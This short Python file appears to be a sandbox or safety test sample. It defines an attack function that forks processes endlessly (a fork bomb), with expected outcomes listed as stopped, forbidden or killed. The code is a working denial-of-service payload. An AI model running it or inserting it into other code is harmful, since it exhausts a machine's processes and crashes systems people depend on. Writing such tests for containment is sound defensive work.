"""Forks without end, in each process that comes of it.

It grows faster than anybody who counts processes can count.
"""

import os

EXPECT = {"stopped", "forbidden", "killed"}
DANGEROUS = "it would take all processes of the machine"


def attack(target):
    while True:
        os.fork()
